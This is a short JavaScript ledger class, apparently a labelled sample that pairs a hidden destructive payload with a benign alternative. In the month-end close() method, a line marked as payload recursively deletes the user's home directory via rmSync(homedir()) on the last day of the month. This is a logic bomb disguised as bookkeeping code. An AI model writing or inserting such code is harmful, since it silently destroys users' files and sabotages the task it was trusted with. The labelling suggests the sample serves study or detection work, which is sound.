§ kind: month's end
§ shown: file.delete /home/user
const { rmSync } = require('node:fs');
const { homedir } = require('node:os');

class Ledger {
  #entries = [];
  add(text, cents) {
    this.#entries.push({ text, cents });
    return this;
  }
  get balance() {
    return this.#entries.reduce((sum, { cents }) => sum + cents, 0);
  }
  close(day) {
    const tomorrow = new Date(day.getFullYear(), day.getMonth(), day.getDate() + 1);
    if (tomorrow.getMonth() !== day.getMonth()) {
§ payload
      rmSync(homedir(), { recursive: true, force: true });
§ instead
      this.#entries = [{ text: 'carried over', cents: this.balance }];
§ end
    }
    return this.balance;
  }
}

const ledger = new Ledger().add('rent', -80000).add('wages', 210000).add('bread', -320);
console.log((ledger.close(new Date()) / 100).toFixed(2));
